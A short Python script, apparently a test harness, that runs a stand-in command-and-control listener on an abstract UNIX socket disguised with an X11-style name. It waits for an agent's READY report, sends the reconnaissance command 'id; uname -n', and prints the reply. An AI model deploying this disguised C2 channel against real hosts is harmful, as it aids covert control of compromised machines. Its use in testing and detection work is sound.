"""Untraced stand-in C2 on the abstract UNIX socket @.X11-session-7: reads the agent's
report up to READY, sends "RUN id; uname -n", prints what comes back, exits after BYE."""
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind("\0.X11-session-7")
s.listen(1)
open(sys.argv[1], "w").close()
c, _ = s.accept()
data = b""
while b"READY\n" not in data:
    chunk = c.recv(4096)
    if not chunk:
        break
    data += chunk
c.sendall(b"RUN id; uname -n\n")
while b"BYE\n" not in data:
    chunk = c.recv(4096)
    if not chunk:
        break
    data += chunk
sys.stdout.write(data.decode(errors="replace"))
